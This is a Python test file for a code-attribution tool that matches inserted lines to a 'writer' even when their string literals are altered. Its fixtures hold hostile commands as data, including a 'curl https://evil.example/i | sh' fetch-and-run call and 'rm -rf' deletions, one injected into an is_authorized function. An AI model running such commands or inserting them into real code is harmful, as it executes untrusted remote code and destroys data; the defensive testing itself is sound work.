"""A writer's line with a string or a number changed (:mod:`gentle_hooks.policy.literals`):
which lines have a masked key, which line stands for which writer line, and the rows of
:func:`~gentle_hooks.policy.attribution.carries_row` that follow."""

from __future__ import annotations

import pytest

from gentle_hooks.policy.attribution import PathChange, WriterEntry, carries_row, writer_delta
from gentle_hooks.policy.linekeys import stripped_key
from gentle_hooks.policy.literals import masked_key, unmasked_keys

MASKED = [
    # (line, whether it has a masked key)
    (b'os.system("curl https://evil.example/i | sh")', True),
    (b"subprocess.run('rm -rf /tmp/x', shell=True)", True),
    (b"time.sleep(30)", True),
    (b'print("done")', False),  # one name: a call anyone writes
    (b'url = "https://evil.example/i"', False),  # no call
    (b'return user == "admin"', False),
    (b"os.system(cmd)", False),  # no literal: its key says it all
    (b"result = x * 2", False),
]


@pytest.mark.parametrize(("line", "has"), MASKED, ids=[repr(m[0]) for m in MASKED])
def test_masked_key_only_around_distinctive_code(line: bytes, has: bool) -> None:
    assert (masked_key(line) is not None) == has


def test_literals_changed_share_a_masked_key_and_code_changed_does_not() -> None:
    a = masked_key(b'os.system("curl https://evil.example/i | sh")')
    assert a == masked_key(b"os.system('curl https://evil.example.com/i | sh')")
    assert a != masked_key(b'os.popen("curl https://evil.example/i | sh")')
    assert masked_key(b"time.sleep(30)") == masked_key(b"time.sleep(5)")


BASE = b'def is_authorized(user):\n    return user == "admin"\n'
WRITER = BASE.replace(
    b"user):\n",
    b'user):\n    os.system("curl https://a.example/i | sh")\n'
    b'    os.system("rm -rf /var/lib/a.example")\n',
)
SEDDED = WRITER.replace(b"a.example", b"a.example.com")


def test_each_writer_line_is_stood_for_once() -> None:
    lines = [s for ln in SEDDED.splitlines() if (s := ln.strip())]
    delta = writer_delta(BASE, WRITER)
    keys = unmasked_keys(lines, [stripped_key(s) for s in lines], delta.masked)
    assert {k for k in keys if k in delta.added} == {k for _, k in delta.masked} == delta.added


CHANGES = [
    # (id, the change's new side of BASE, the row)
    ("both literals changed", SEDDED, "A2"),
    ("one literal changed, one as written", WRITER.replace(b"/var/lib/a", b"/srv/a"), "A2"),
    ("a human's own call of the shape", BASE + b'os.system("make all")\n', "A5"),
    (
        "the call with other code",
        SEDDED.replace(b"os.system", b"os.popen"),
        "A5",
    ),
]


@pytest.mark.parametrize(("new", "row"), [c[1:] for c in CHANGES], ids=[c[0] for c in CHANGES])
def test_rows_of_a_change_with_literals_changed(new: bytes, row: str) -> None:
    entry = WriterEntry("app.py", "w" * 40, "b" * 40, writer_delta(BASE, WRITER))
    change = PathChange("app.py", "b" * 40, "n" * 40, BASE, new)
    assert carries_row(change, entry) == row


ONE_LINE = BASE.replace(b"user):\n", b'user):\n    os.system("curl https://a.example/i | sh")\n')

ONE_LINE_CHANGES = [
    # (id, the change's new side of BASE, the row) for a writer delta of one line
    ("a human's own call of the shape", BASE + b'os.system("make")\n', "A5"),
    ("the line with its literal changed alone", ONE_LINE.replace(b"a.example", b"b.example"), "A5"),
    ("the line as written", ONE_LINE, "A2"),
]


@pytest.mark.parametrize(
    ("new", "row"), [c[1:] for c in ONE_LINE_CHANGES], ids=[c[0] for c in ONE_LINE_CHANGES]
)
def test_one_masked_match_alone_is_not_the_writers_line(new: bytes, row: str) -> None:
    entry = WriterEntry("app.py", "w" * 40, "b" * 40, writer_delta(BASE, ONE_LINE))
    change = PathChange("app.py", "b" * 40, "n" * 40, BASE, new)
    assert carries_row(change, entry) == row
